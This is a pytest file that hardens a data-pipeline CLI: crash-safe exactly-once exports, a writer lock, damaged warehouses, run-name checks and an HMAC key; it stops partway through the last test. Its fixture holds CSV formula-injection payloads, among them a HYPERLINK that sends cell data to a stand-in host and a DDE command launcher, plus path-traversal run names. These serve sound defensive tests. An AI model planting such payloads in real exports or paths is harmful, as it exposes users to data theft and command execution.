"""Issue 17 hardening, on small hand-written warehouses (no dbt build unless said):
exactly-once exports under injected crashes and a real SIGKILL, run records of killed runs,
the one-writer lock, damaged / read-only warehouses, run names and ages, CSV formula
injection, the identity hash key (resolution, HMAC = Python's hmac, nothing leaks) and one
line instead of a traceback for bad input to every command (did and power are tested
elsewhere)."""

from __future__ import annotations

import collections
import csv
import datetime as dt
import hashlib
import hmac
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from lawn import nightly
from lawn.actions import ActionError, export_actions, revert
from lawn.churn_model import FEATURES
from lawn.cli import app
from lawn.dbt_runner import run_dbt
from lawn.faults import FAULT_ENV, InjectedFault
from lawn.identity_key import ENV_KEY, ENV_KEY_FILE, HashKeyError, IdentityKey, install_key, pads, resolve_key
from lawn.landing import landing_tables
from lawn.nightly import NightlyConfig, run_nightly
from lawn.paths import REPO_ROOT
from lawn.warehouse import WarehouseError, writer_lock

KEY = IdentityKey(b"hardening-test-key-'quote'-0001", "test")
LAST_DAY = dt.date(2026, 5, 10)
# hand-written actions, as the mart would hold them; what a CRM or a rule author could send
ACTIONS = [
    # action_id, rule, destination, playbook, assignee, decided_on offset, suppressed
    ("act_a01", "churn_risk_retention", "email", "retention_sequence", None, 0, False),
    (
        "act_a02",
        "expansion_sales",
        "crm",
        "expansion",
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        -1,
        False,
    ),
    ("act_a03", "expansion_sales", "crm", "expansion", "+1-555-0100", -2, False),
    ("act_a04", "stalled_activation_onboarding", "in_app", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", 0, False),
    ("act_a05", "stalled_activation_onboarding", "in_app", "\tonboarding", "\rowner", -3, False),
    ("act_a06", "churn_risk_retention", "email", "retention_sequence", None, 0, True),  # held out
    ("act_a07", "churn_risk_retention", "email", "retention_sequence", None, -30, False),  # stale
    ("act_a08", "expansion_sales", "crm", "expansion", "Ana Owner", -1, False),
]
MAX_AGE = 5


def _eligible() -> set[str]:
    """The actions an export must send: not suppressed, decided within MAX_AGE days."""
    return {a[0] for a in ACTIONS if not a[6] and -a[5] <= MAX_AGE}


# the landing tables as create_landing_tables makes them (one definition: lawn/landing.py)
LANDING_DDL = ";\n".join(table.duckdb_ddl() for table in landing_tables().values())


def make_warehouse(path: Path) -> Path:
    """The landing tables (as create_landing_tables makes them), the action mart, a feature
    mart and the churn training mart with one paying account over ten days, all by hand."""
    rows = [
        (aid, rule, rule.split("_")[0], dest, playbook, hashlib.sha256(aid.encode()).hexdigest(), assignee,
         LAST_DAY + dt.timedelta(days=offset), "churn_probability=0.3", 0.3 if dest == "email" else None,
         "v1" if dest == "email" else None, suppressed)
        for aid, rule, dest, playbook, assignee, offset, suppressed in ACTIONS
    ]  # fmt: skip
    actions = pd.DataFrame(
        rows,
        columns=["action_id", "rule_id", "action_type", "destination", "playbook", "account_key", "assignee",
                 "decided_on", "trigger_inputs", "churn_probability", "model_version", "is_suppressed"],
    ).assign(
        reason="rule: " + pd.Series([r[1] for r in rows]),
        needs_review=False,
        review_decision=pd.array([None] * len(rows), dtype="string"),
    )  # fmt: skip
    days = [LAST_DAY - dt.timedelta(days=n) for n in range(10)]
    features = pd.DataFrame({"account_id": "acc_1", "feature_date": days})
    for feature in FEATURES:
        features[feature] = 1.0
    features["mrr_usd"] = 49.0
    with duckdb.connect(str(path)) as con:
        con.execute(LANDING_DDL)
        con.execute("create schema marts")
        con.register("a", actions)
        con.execute("create table marts.fct_next_best_actions as select * from a")
        con.register("f", features)
        con.execute("create table marts.fct_account_features_daily as select * from f")
        # the one data day (lawn/data_day.py), as int_data_day defines it: here the last feature day
        con.execute(
            "create table marts.fct_data_day as select max(feature_date) as data_day, "
            "max(feature_date) as data_end_date from marts.fct_account_features_daily"
        )
        # the training mart: the data end on LAST_DAY, so no day's 30-day window is over yet
        con.execute(
            "create table marts.fct_churn_training_examples as select *, 'smb' as segment, "
            "date '2026-01-01' as cohort_month, feature_date + 30 as churn_window_end_date, "
            "false as is_label_known, cast(null as boolean) as churned_30d from f"
        )
    return path


@pytest.fixture
def warehouse(tmp_path) -> Path:
    return make_warehouse(tmp_path / "lawn.duckdb")


def published(export_dir: Path) -> dict[str, pd.DataFrame]:
    """Every published CSV (read with the csv module, not pandas), by run folder."""
    files = {}
    for path in sorted(export_dir.glob("*/actions.csv")):
        with open(path, newline="") as handle:
            files[path.parent.name] = pd.DataFrame(list(csv.DictReader(handle)))
    return files


def assert_exactly_once(db: Path, export_dir: Path, expected: set[str]) -> None:
    """Each expected action in exactly one published file; the ledger and the files agree
    run by run; every batch published; no temporary file left."""
    files = published(export_dir)
    sent = collections.Counter(
        aid
        for frame in files.values()
        if len(frame)
        for aid in frame.loc[frame["record_type"] == "action", "action_id"]
    )
    assert set(sent) == expected and set(sent.values()) == {1}, sent
    with duckdb.connect(str(db), read_only=True) as con:
        ledger = con.execute("select run_id, action_id, record_type from ops.action_exports").df()
        batches = con.execute("select run_id, status from ops.export_batches").df()
    for run_id, frame in files.items():
        in_ledger = ledger[ledger["run_id"] == run_id]
        in_file = frame[["action_id", "record_type"]] if len(frame) else pd.DataFrame(columns=["action_id"])
        assert sorted(in_ledger["action_id"]) == sorted(in_file["action_id"]), run_id
    assert set(ledger["run_id"]) <= set(files), "a ledger row points at a file that does not exist"
    assert set(batches["status"]) <= {"published"} and set(batches["run_id"]) == set(files)
    assert not list(export_dir.rglob("*.tmp"))


# ---------------------------------------------------------------- exports: injection, names


def test_csv_cells_that_would_run_as_formulas_are_neutralised(warehouse, tmp_path):
    result = export_actions(warehouse, tmp_path / "out", "r1", max_age_days=MAX_AGE)
    with open(result.csv_path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(_eligible()) and all(None not in row.values() for row in rows)  # no broken row
    cells = [(column, value) for row in rows for column, value in row.items()]
    # OWASP: no text cell may start with = + - @ tab or CR; the dangerous ones get a quote
    assert not [cell for cell in cells if cell[1][:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_id = {a[0]: a for a in ACTIONS}
    with open(result.csv_path, newline="") as handle:
        rows = {row["action_id"]: row for row in csv.DictReader(handle)}
    assert rows["act_a02"]["assignee"] == "'" + by_id["act_a02"][4]
    assert rows["act_a03"]["assignee"] == "'+1-555-0100"
    assert rows["act_a04"]["playbook"] == "'" + by_id["act_a04"][3] and rows["act_a04"]["assignee"] == "'-2+3"
    assert rows["act_a05"]["playbook"] == "'\tonboarding" and rows["act_a05"]["assignee"] == "'\rowner"
    assert rows["act_a08"]["assignee"] == "Ana Owner"  # harmless text untouched
    assert rows["act_a01"]["churn_probability"] == "0.3"
    # Parquet (typed) and the ledger keep the value as decided
    parquet = pd.read_parquet(result.parquet_path).set_index("action_id")
    assert parquet.loc["act_a02", "assignee"] == by_id["act_a02"][4]
    with duckdb.connect(str(warehouse), read_only=True) as con:
        kept = con.execute("select assignee from ops.action_exports where action_id = 'act_a02'").fetchall()
    assert kept == [(by_id["act_a02"][4],)]


@pytest.mark.parametrize("bad", ["../../../escape", "", ".hidden", "a/b", "x" * 81, "run id", "..", "r\n1"])
def test_run_names_outside_the_safe_pattern_are_refused(warehouse, tmp_path, bad):
    out = tmp_path / "a" / "b" / "out"
    with pytest.raises(ActionError, match="run name"):
        export_actions(warehouse, out, bad, max_age_days=MAX_AGE)
    result = CliRunner().invoke(
        app, ["actions", "export", "--run", bad, "--db", str(warehouse), "--out-dir", str(out)]
    )
    assert result.exit_code == 2 and "run name" in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "escape").exists() and not out.exists()


def test_negative_ages_are_refused(warehouse, tmp_path):
    for args in (
        ["actions", "export", "--run", "r1", "--max-age-days", "-5", "--db", str(warehouse)],
        ["nightly", "--action-max-age-days", "-1", "--db", str(warehouse)],
    ):
        result = CliRunner().invoke(app, args, env={ENV_KEY: KEY.secret.decode()})
        assert result.exit_code == 2 and "max age" in result.stderr, result.output


def test_ages_beyond_a_century_are_refused_not_a_calendar_overflow(warehouse, tmp_path):
    """3000000 days overflowed the calendar (`OverflowError: date value out of range`, exit 1)."""
    for days in ("36501", "3000000"):
        result = CliRunner().invoke(
            app, ["actions", "export", "--run", "r1", "--max-age-days", days, "--db", str(warehouse),
                  "--out-dir", str(tmp_path / "out")],
        )  # fmt: skip
        assert result.exit_code == 2 and "max age must be 0 to 36500 days" in result.stderr, result.output
        assert "Traceback" not in result.output and "Overflow" not in result.output
    # a century is allowed: the stale action (older than the default window) goes out too
    assert export_actions(warehouse, tmp_path / "out", "r2", max_age_days=36_500).actions > len(_eligible())


def test_an_unwritable_out_dir_is_refused_before_anything_is_staged(warehouse, tmp_path):
    """An --out-dir that cannot be written (here: under a file; a read-only folder is the same
    for a user other than root) used to stage the actions in the ledger first, then fail on the
    folder: every later export (and the nightly's actions step) then failed the same way, until
    that folder was writable, and published there."""
    (tmp_path / "file").write_text("not a folder")
    bad = tmp_path / "file" / "exports"
    result = CliRunner().invoke(
        app, ["actions", "export", "--run", "r1", "--db", str(warehouse), "--out-dir", str(bad)]
    )
    assert result.exit_code == 2, result.output
    [line] = result.stderr.strip().splitlines()
    assert f"--out-dir {bad}: cannot write export files there" in line and "Traceback" not in result.output
    with duckdb.connect(str(warehouse), read_only=True) as con:
        staged = con.execute("select count(*) from ops.action_exports").fetchall()[0][0]
    assert staged == 0  # nothing taken
    good = tmp_path / "good"
    result = CliRunner().invoke(
        app, ["actions", "export", "--run", "r2", "--db", str(warehouse), "--out-dir", str(good)]
    )
    assert result.exit_code == 0, result.output
    assert_exactly_once(warehouse, good, _eligible())


def test_a_lock_note_that_is_not_utf8_or_not_a_note_is_taken_over(warehouse, tmp_path):
    """A stray byte in `<db>.lock` made every writer exit 1 with a bare UnicodeDecodeError;
    a JSON list or a pid that is no process id crashed the take-over."""
    lock = warehouse.parent / (warehouse.name + ".lock")
    for note in (b'{"pid": 12\xff, "host": "x"}', b"[1, 2]", b'{"pid": "abc"}', b'{"pid": 99999999999999}'):
        lock.write_bytes(note)
        result = CliRunner().invoke(
            app, ["actions", "export", "--run", f"r{len(note)}", "--db", str(warehouse),
                  "--out-dir", str(tmp_path / "out")],
        )  # fmt: skip
        assert result.exit_code == 0, (note, result.output)
    with writer_lock(warehouse, "test") as taken:
        assert taken == ""  # the last writer left its own note and released it: nothing stale


def test_a_lock_wait_that_is_no_duration_is_refused(warehouse, tmp_path):
    """`--lock-wait nan` made the deadline nan: a writer waiting for a held lock never gave up."""
    for wait in ("nan", "-1", "inf"):
        result = CliRunner().invoke(
            app, ["actions", "export", "--run", "r1", "--lock-wait", wait, "--db", str(warehouse),
                  "--out-dir", str(tmp_path)],
        )  # fmt: skip
        assert result.exit_code == 2 and "--lock-wait must be a number of seconds >= 0" in result.stderr, wait


def test_ctrl_c_is_one_line_and_exit_130(warehouse, tmp_path, monkeypatch):
    """SIGINT used to end a command with exit 130 and nothing printed."""

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("lawn.actions.export_actions", interrupted)
    result = CliRunner().invoke(
        app, ["actions", "export", "--run", "r1", "--db", str(warehouse), "--out-dir", str(tmp_path)]
    )
    assert result.exit_code == 130, result.output
    assert result.stderr.strip() == "error: interrupted (Ctrl-C): run the command again to complete it"


def test_a_run_name_is_used_once(warehouse, tmp_path):
    first = export_actions(warehouse, tmp_path, "r1", max_age_days=MAX_AGE)
    before = first.csv_path.read_bytes()
    assert first.actions == len(_eligible())
    with pytest.raises(ActionError, match="used before"):
        export_actions(warehouse, tmp_path, "r1", max_age_days=MAX_AGE)
    result = CliRunner().invoke(app, ["actions", "export", "--run", "r1", "--db", str(warehouse),
                                      "--out-dir", str(tmp_path)])  # fmt: skip
    assert result.exit_code == 2 and "used before" in result.stderr
    assert first.csv_path.read_bytes() == before  # the 6-row export was not overwritten
    # an empty export (nothing due) also takes its name: the ledger shows it as a batch
    empty = export_actions(warehouse, tmp_path, "r2", max_age_days=MAX_AGE)
    assert empty.actions == 0 and len(pd.read_csv(empty.csv_path)) == 0
    with pytest.raises(ActionError, match="used before"):
        export_actions(warehouse, tmp_path, "r2", max_age_days=MAX_AGE)
    assert_exactly_once(warehouse, tmp_path, _eligible())


# ---------------------------------------------------------------- exactly once under crashes

EXPORT_POINTS = [
    "export:before_commit",
    "export:staged",
    "export:written",
    "export:csv_renamed",
    "export:renamed",
]


@pytest.mark.parametrize("point", EXPORT_POINTS)
def test_an_export_killed_at_any_point_then_rerun_sends_each_action_once(
    warehouse, tmp_path, monkeypatch, point
):
    out = tmp_path / "out"
    revert(warehouse, ["act_a08"], reason="planted before the crash")  # never sent: no reversal
    monkeypatch.setenv(FAULT_ENV, point)
    with pytest.raises(InjectedFault):
        export_actions(warehouse, out, "crashed", max_age_days=MAX_AGE)
    monkeypatch.delenv(FAULT_ENV)
    again = export_actions(warehouse, out, "rerun", max_age_days=MAX_AGE)
    expected = _eligible() - {"act_a08"}
    if point == "export:before_commit":  # nothing was staged: the re-run sends everything
        assert again.completed == [] and again.actions == len(expected)
    else:  # the killed export is completed from the ledger, the re-run has nothing new
        assert again.completed == ["crashed"] and again.actions == 0
    assert_exactly_once(warehouse, out, expected)
    # a reversal after the crash goes out once too
    revert(warehouse, ["act_a01"], reason="after the crash")
    monkeypatch.setenv(FAULT_ENV, point)
    with pytest.raises(InjectedFault):
        export_actions(warehouse, out, "crashed-2", max_age_days=MAX_AGE)
    monkeypatch.delenv(FAULT_ENV)
    export_actions(warehouse, out, "rerun-2", max_age_days=MAX_AGE)
    reversals = [
        aid
        for f in published(out).values()
        if len(f)
        for aid in f.loc[f["record_type"] == "reversal", "action_id"]
    ]
    assert reversals == ["act_a01"]


def test_a_real_sigkill_mid_export_then_rerun_sends_each_action_once(warehouse, tmp_path):
    out = tmp_path / "out"
    command = [str(Path(sys.executable).with_name("lawn")), "actions", "export", "--db", str(warehouse),
               "--out-dir", str(out), "--max-age-days", str(MAX_AGE)]  # fmt: skip
    env = dict(os.environ, **{FAULT_ENV: "export:written:kill"})
    killed = subprocess.run([*command, "--run", "k1"], env=env, capture_output=True, text=True, timeout=120)
    assert killed.returncode == -signal.SIGKILL
    assert (out / "k1" / ".actions.csv.tmp").exists() and not (out / "k1" / "actions.csv").exists()
    rerun = subprocess.run([*command, "--run", "k2"], capture_output=True, text=True, timeout=120)
    assert rerun.returncode == 0, rerun.stderr
    assert "completed the interrupted export k1" in rerun.stdout and "0 actions" in rerun.stdout
    assert_exactly_once(warehouse, out, _eligible())


# ---------------------------------------------------------------- the nightly: records, boundaries


def _fake(config, state):
    return "skipped in this test"


def _export_step(config, state):
    """The actions step without its dbt build of the scored marts (the mart is hand-written)."""
    result = export_actions(
        config.db_path, config.export_dir, state["run_id"], max_age_days=config.action_max_age_days
    )
    time.sleep(float(os.environ.get("LAWN_TEST_STEP_SECONDS", "0")))
    return f"{result.actions} actions (completed {result.completed})"


def _config(work: Path, db: Path) -> NightlyConfig:
    return NightlyConfig(db_path=db, model_store=work / "store", export_dir=work / "exports",
                         report_dir=work / "report", action_max_age_days=MAX_AGE, hash_key=KEY)  # fmt: skip


@pytest.fixture
def fast_steps(monkeypatch):
    steps = [(name, _export_step if name == "actions" else _fake) for name, _ in nightly.STEPS]
    monkeypatch.setattr(nightly, "STEPS", steps)
    return steps


NIGHTLY_POINTS = [
    ("before:validate", "validate"),
    ("after:validate", None),
    ("after:build", None),
    ("after:score", None),
    ("export:staged", "actions"),
    ("export:csv_renamed", "actions"),
    ("after:actions", None),
    ("after:slo", None),
    ("after:report", None),
]


@pytest.mark.parametrize(("point", "in_step"), NIGHTLY_POINTS)
def test_a_nightly_killed_at_a_step_boundary_leaves_a_record_and_a_rerun_sends_once(
    warehouse, tmp_path, monkeypatch, fast_steps, point, in_step
):
    config = _config(tmp_path, warehouse)
    monkeypatch.setenv(FAULT_ENV, point)
    with pytest.raises(InjectedFault):
        run_nightly(config)
    monkeypatch.delenv(FAULT_ENV)
    [log] = (tmp_path / "report" / "runs").glob("*.json")
    killed = json.loads(log.read_text())
    assert killed["status"] == "running"  # what a killed process leaves behind
    rerun = run_nightly(config)
    assert rerun.exit_code == 0 and rerun.run_id != killed["run_id"]
    closed = json.loads(log.read_text())
    assert closed["status"] == "interrupted" and closed["failed_step"] == in_step
    assert closed["closed_by"] == rerun.run_id
    with duckdb.connect(str(warehouse), read_only=True) as con:
        runs = dict(con.execute("select run_id, status from ops.nightly_runs").fetchall())
    assert runs == {killed["run_id"]: "interrupted", rerun.run_id: "success"}
    assert_exactly_once(warehouse, config.export_dir, _eligible())


def test_a_really_killed_nightly_process_releases_the_lock_and_is_closed(warehouse, tmp_path, fast_steps):
    script = (
        "import sys, pathlib\n"
        "from lawn import nightly\n"
        "from tests_py import test_hardening as t\n"
        "nightly.STEPS = [(n, t._export_step if n == 'actions' else t._fake) for n, _ in nightly.STEPS]\n"
        "nightly.run_nightly(t._config(pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])))\n"
    )
    env = dict(os.environ, **{FAULT_ENV: "after:actions:kill"})
    killed = subprocess.run([sys.executable, "-c", script, str(tmp_path), str(warehouse)], env=env,
                            cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)  # fmt: skip
    assert killed.returncode == -signal.SIGKILL, killed.stderr[-2000:]
    with writer_lock(warehouse, "test") as note:  # the kernel released the dead holder's lock
        assert "stale lock" in note and "that process is gone" in note
    rerun = run_nightly(_config(tmp_path, warehouse))
    assert rerun.exit_code == 0
    statuses = sorted(
        json.loads(p.read_text())["status"] for p in (tmp_path / "report" / "runs").glob("*.json")
    )
    assert statuses == ["interrupted", "success"]
    assert_exactly_once(warehouse, tmp_path / "exports", _eligible())


# ---------------------------------------------------------------- one writer at a time


def _hold_lock(db: Path, seconds: float) -> subprocess.Popen:
    script = (
        "import sys, time, pathlib\n"
        "from lawn.warehouse import writer_lock\n"
        "with writer_lock(pathlib.Path(sys.argv[1]), 'lawn nightly (test holder)'):\n"
        "    print('held', flush=True)\n"
        "    time.sleep(float(sys.argv[2]))\n"
    )
    holder = subprocess.Popen([sys.executable, "-c", script, str(db), str(seconds)], stdout=subprocess.PIPE,
                              text=True, cwd=REPO_ROOT)  # fmt: skip
    assert holder.stdout.readline().strip() == "held"
    return holder


def test_a_second_writer_refuses_naming_the_holder_or_waits(warehouse, tmp_path, fast_steps):
    holder = _hold_lock(warehouse, 60)
    try:
        with pytest.raises(WarehouseError, match=f"pid {holder.pid} on {socket.gethostname()}"):
            run_nightly(_config(tmp_path, warehouse))
        for args in (
            ["actions", "export", "--run", "x1"],
            ["actions", "revert", "act_a01"],
            ["model", "score"],
        ):
            result = CliRunner().invoke(app, [*args, "--db", str(warehouse)])
            assert result.exit_code == 1, (args, result.output)
            assert "locked by another lawn writer" in result.stderr and f"pid {holder.pid}" in result.stderr
            assert (
                "lawn nightly (test holder)" in result.stderr and len(result.stderr.strip().splitlines()) == 1
            )
    finally:
        holder.kill()
        holder.wait()
    holder = _hold_lock(warehouse, 2)
    args = ["actions", "export", "--run", "x2", "--lock-wait", "30", "--db", str(warehouse)]
    result = CliRunner().invoke(app, [*args, "--out-dir", str(tmp_path / "out")])
    holder.wait()
    assert result.exit_code == 0, result.output
    assert_exactly_once(warehouse, tmp_path / "out", _eligible())


def test_two_nightlies_at_once_one_runs_the_other_refuses(warehouse, tmp_path):
    script = (
        "import sys, pathlib\n"
        "from lawn import nightly\n"
        "from lawn.warehouse import WarehouseError\n"
        "from tests_py import test_hardening as t\n"
        "nightly.STEPS = [(n, t._export_step if n == 'actions' else t._fake) for n, _ in nightly.STEPS]\n"
        "try:\n"
        "    config = t._config(pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]))\n"
        "    print(nightly.run_nightly(config).exit_code)\n"
        "except WarehouseError as exc:\n"
        "    print(exc, file=sys.stderr)\n"
        "    sys.exit(1)\n"
    )
    env = dict(os.environ, LAWN_TEST_STEP_SECONDS="4")
    command = [sys.executable, "-c", script, str(tmp_path), str(warehouse)]
    runs = [subprocess.Popen(command, env=env, cwd=REPO_ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True) for _ in range(2)]  # fmt: skip
    outcomes = sorted((run.wait(timeout=120), run.stdout.read(), run.stderr.read(), run.pid) for run in runs)
    (ok, ok_out, _, ok_pid), (refused, _, message, _) = outcomes
    assert (ok, ok_out.strip(), refused) == (0, "0", 1)
    assert "locked by another lawn writer" in message and f"pid {ok_pid}" in message
    assert_exactly_once(warehouse, tmp_path / "exports", _eligible())


# ---------------------------------------------------------------- damaged and read-only warehouses

WRITERS = [
    ["actions", "export", "--run", "w1"],
    ["actions", "revert", "act_a01"],
    ["model", "score"],
    ["model", "monitor"],
    ["nightly"],
]


@pytest.fixture(params=["truncated", "garbage"])
def damaged(request, warehouse, tmp_path) -> Path:
    path = tmp_path / f"{request.param}.duckdb"
    if request.param == "garbage":
        path.write_bytes(b"PAR1 this is not a database" * 400)
        return path
    with duckdb.connect(str(warehouse)) as con:  # some bulk, so the file has data blocks
        con.execute(
            "create table marts.filler as select range as n, md5(range::varchar) as s from range(300000)"
        )
    shutil.copy(warehouse, path)
    os.truncate(path, path.stat().st_size // 2)
    return path


def test_a_damaged_warehouse_gives_one_line_up_front(damaged):
    # a DuckDB file cut short is a damaged warehouse (a failed step, 1); a file without DuckDB's
    # header is not a warehouse at all: a wrong --db, bad input (2)
    garbage = damaged.name.startswith("garbage")
    for args in [*WRITERS, ["model", "train"]]:
        clock = time.perf_counter()
        result = CliRunner().invoke(app, [*args, "--db", str(damaged)], env={ENV_KEY: KEY.secret.decode()})
        assert time.perf_counter() - clock < 10
        assert result.exit_code == (2 if garbage else 1), (args, result.output)
        expected = "not a DuckDB warehouse" if garbage else "not a readable DuckDB warehouse"
        assert expected in result.stderr and str(damaged) in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.output


@pytest.fixture
def read_only(warehouse):
    """Read-only for root too: the immutable attribute (chmod does not stop root)."""
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(warehouse)], capture_output=True).returncode:
            pytest.skip("chattr +i is not available here")
        yield warehouse
        subprocess.run(["chattr", "-i", str(warehouse)], check=True)
    else:
        warehouse.chmod(0o444)
        yield warehouse
        warehouse.chmod(0o644)


def test_a_read_only_warehouse_gives_one_line_up_front(read_only):
    for args in WRITERS:
        result = CliRunner().invoke(app, [*args, "--db", str(read_only)], env={ENV_KEY: KEY.secret.decode()})
        assert result.exit_code == 2, (args, result.output)
        assert "read-only" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_a_db_in_a_missing_folder_fails_before_any_work(tmp_path):
    missing = tmp_path / "no" / "such" / "lawn.duckdb"
    for args in [*WRITERS, ["model", "train"]]:
        result = CliRunner().invoke(app, [*args, "--db", str(missing)], env={ENV_KEY: KEY.secret.decode()})
        assert result.exit_code == 2 and "does not exist" in result.stderr, (args, result.output)
    build = CliRunner().invoke(app, ["build"], env={"LAWN_DUCKDB_PATH": str(missing)})  # dbt never starts
    assert build.exit_code == 2 and f"{missing}: folder" in build.stderr and "Traceback" not in build.output
    assert not (tmp_path / "no").exists()


# ---------------------------------------------------------------- no tracebacks


def test_bad_input_to_every_command_is_one_line_not_a_traceback(warehouse, tmp_path):
    store = tmp_path / "store"
    empty = tmp_path / "empty"
    empty.mkdir()
    live_store = tmp_path / "live_store"
    (live_store / "v1").mkdir(parents=True)
    (live_store / "v1" / "model.json").write_text("{}")
    (live_store / "live.json").write_text('{"live": "v1", "history": []}')
    db = ["--db", str(warehouse)]
    cases = [
        (["generate", "--format", "xml"], 2, "--format"),
        (
            ["generate", "--days", "3", "--out-dir", str(tmp_path / "g"), "--truth-dir", str(tmp_path / "t")],
            2,
            "days",
        ),
        (["generate", "--dirt", "duplicate"], 2, "--dirt"),
        (["validate-raw", "--raw-dir", str(tmp_path / "none")], 2, "none"),
        (["identity-weights", "--db", str(tmp_path / "none.duckdb")], 2, "no such database"),
        (["readout", "exp_x", "--db", str(tmp_path / "none.duckdb")], 2, "no such warehouse"),
        (["model", "train", "--test-days", "0", *db], 2, "--test-days"),
        (["model", "train", "--store", str(store), *db], 2, "labelled"),
        (["model", "score", "--date", "2020-01-01", "--store", str(store), *db], 2, "no paying account-days"),
        (["model", "score", "--store", str(store), *db], 2, "no live model"),
        (["model", "score", "--date", "yesterday", *db], 2, "YYYY-MM-DD"),
        (["model", "monitor", "--store", str(store), *db], 2, "no live model"),
        (["model", "rollback", "--store", str(store)], 2, "no earlier version"),
        (["actions", "export", "--run", "../x", *db], 2, "run name"),
        (["actions", "revert", *db], 2, "give action ids"),
        (["actions", "revert", "act_nope", *db], 2, "unknown action id"),
        (["actions", "revert", "--run", "never", *db], 2, "exported no actions"),
        (["nightly", *db], 2, "no identity hash key"),
        (["nightly", "--raw-dir", str(tmp_path / "none"), *db], 2, "no such folder"),
        # an unknown shadow version failed the score step (exit 1) after the whole build
        (
            ["nightly", "--raw-dir", str(empty), "--model-store", str(store), "--shadow", "nosuch", *db],
            2,
            "--shadow: no model version 'nosuch'",
        ),
        (
            ["nightly", "--raw-dir", str(empty), "--model-store", str(store), "--shadow", "../v1", *db],
            2,
            "--shadow: no model version '../v1'",
        ),
        # the live version as its own shadow wrote every score twice: the score step failed (a probe)
        (
            ["nightly", "--raw-dir", str(empty), "--model-store", str(live_store), "--shadow", "v1", *db],
            2,
            "--shadow v1 is the live version",
        ),
    ]
    for args, code, fragment in cases:
        with_key = "--raw-dir" in args and args[0] == "nightly"
        env = {ENV_KEY: KEY.secret.decode()} if with_key else {ENV_KEY: None, ENV_KEY_FILE: None}
        result = CliRunner().invoke(app, args, env=env)
        assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output, (
            args,
            result.output,
        )
        assert result.exit_code == code and fragment in result.stderr, (args, result.exit_code, result.output)
        assert len(result.stderr.strip().splitlines()) == 1, (args, result.stderr)


def test_score_on_a_day_without_data_is_one_line(warehouse, tmp_path):
    from lawn.churn_model import save_artefact
    from tests_py.test_nightly import _artefact

    store = tmp_path / "store"
    save_artefact(store, _artefact("v1", LAST_DAY - dt.timedelta(days=5), intercept=-1.0))
    result = CliRunner().invoke(app, ["model", "score", "--date", "2020-01-01", "--store", str(store),
                                      "--db", str(warehouse)])  # fmt: skip
    assert result.exit_code == 2 and "no paying account-days on 2020-01-01" in result.stderr, result.output
    assert f"{LAST_DAY - dt.timedelta(days=9)} to {LAST_DAY}" in result.stderr
    good = CliRunner().invoke(app, ["model", "score", "--store", str(store), "--db", str(warehouse)])
    assert good.exit_code == 0 and "v1: 1 account-days scored" in good.output


# ---------------------------------------------------------------- the identity hash key


def test_the_key_comes_from_the_environment_or_a_file_never_a_default(tmp_path, monkeypatch):
    monkeypatch.delenv(ENV_KEY, raising=False)
    monkeypatch.delenv(ENV_KEY_FILE, raising=False)
    with pytest.raises(HashKeyError, match="no identity hash key"):
        resolve_key(dev=False)
    monkeypatch.setenv(ENV_KEY, "")  # an unset CI secret
    with pytest.raises(HashKeyError, match="set but empty"):
        resolve_key(dev=True)
    monkeypatch.setenv(ENV_KEY, "short")
    with pytest.raises(HashKeyError, match="too short"):
        resolve_key(dev=False)
    monkeypatch.delenv(ENV_KEY)
    key_file = tmp_path / "key"
    key_file.write_text("from-a-file-0123456789\n")
    monkeypatch.setenv(ENV_KEY_FILE, str(key_file))
    assert resolve_key(dev=False) == IdentityKey(b"from-a-file-0123456789", "file")
    monkeypatch.delenv(ENV_KEY_FILE)
    import lawn.identity_key as identity_key

    monkeypatch.setattr(identity_key, "LOCAL_KEY_FILE", tmp_path / ".lawn" / "identity_hash.key")
    monkeypatch.setattr(
        identity_key.local_dev_key, "__defaults__", (tmp_path / ".lawn" / "identity_hash.key",)
    )
    local = resolve_key(dev=True)
    assert local.origin == "local-dev" and len(local.secret) == 64
    assert resolve_key(dev=True) == local  # generated once, then reused
    assert (tmp_path / ".lawn" / "identity_hash.key").stat().st_mode & 0o077 == 0
    gitignore = (REPO_ROOT / ".gitignore").read_text().splitlines()
    assert ".lawn/" in gitignore


def test_the_nightly_refuses_to_start_without_a_key(tmp_path):
    args = ["nightly", "--db", str(tmp_path / "x.duckdb"), "--report-dir", str(tmp_path / "r")]
    result = CliRunner().invoke(app, args, env={ENV_KEY: None, ENV_KEY_FILE: None})
    assert result.exit_code == 2 and "no identity hash key" in result.stderr
    assert not (tmp_path / "r").exists() and not (tmp_path / "x.duckdb").exists()  # nothing ran
    empty = CliRunner().invoke(app, ["nightly", "--db", str(tmp_path / "x.duckdb")], env={ENV_KEY: ""})
    assert empty.exit_code == 2 and "set but empty" in empty.stderr


KEYS = [
    b"a-short-key-with-'quotes'-and-\"doubles\"",
    "ключ-with-unicode-and-backslash-\\-0001".encode(),
    bytes(range(1, 65)),  # exactly one block
    b"k" * 100,  # longer than a block: hashed first (RFC 2104)
]
MESSAGES = ["acc_0001", "", "o'brien@example.com", "ünïcödé", "x" * 300]


def test_hmac_in_sql_equals_pythons_hmac(tmp_path):
    """The keyed_hash macro, compiled by dbt once, run on DuckDB for several keys."""
    db = tmp_path / "hmac.duckdb"
    install_key(db, KEY)
    values = ", ".join("('" + m.replace("'", "''") + "')" for m in MESSAGES)
    done = run_dbt(
        ["compile", "--quiet", "--inline",
         f"select msg, {{{{ keyed_hash('msg') }}}} as hashed from (values {values}) as t(msg)"],
        db, target_path=tmp_path / "target", log_path=tmp_path / "logs",
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-3000:]
    compiled = done.stdout
    sql = compiled[compiled.index("select msg,") :]
    for secret in [KEY.secret, *KEYS]:
        install_key(db, IdentityKey(secret, "test"))
